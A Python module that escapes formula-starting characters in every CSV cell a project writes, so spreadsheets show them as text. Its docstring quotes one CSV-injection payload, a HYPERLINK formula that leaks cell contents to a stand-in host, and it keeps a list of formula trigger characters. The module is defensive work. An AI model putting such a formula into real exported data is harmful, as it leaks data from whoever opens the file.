"""Every CSV the project writes goes through `lines`: one dialect, and no live formulas.

A spreadsheet runs a cell that starts with = + - @ (or tab or carriage return, or the
full-width ＝ ＋ － ＠ that some spreadsheets fold to them) as a formula: a report's
description `=HYPERLINK("http://x/?"&A1,"Details")` would run on the desk of whoever opens
the open data file (OWASP "CSV Injection"). Such a text cell gets a leading `'`, which
spreadsheets show as text. Numbers are written as numbers: a coordinate -1.5 stays -1.5.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
"""First characters that make a spreadsheet read a cell as a formula."""


def cell(value: Any) -> str:
    """`value` as the text of one CSV cell: None empty, numbers as they are, text that a
    spreadsheet would run as a formula behind a `'`."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, float):
        return repr(value)
    if isinstance(value, int):
        return str(value)
    text = str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def lines(rows: Iterable[Sequence[Any]]) -> str:
    """`rows` as CSV text (RFC 4180 quoting, CRLF line ends), every cell through `cell`."""
    out = io.StringIO()
    csv.writer(out).writerows([cell(value) for value in row] for row in rows)
    return out.getvalue()
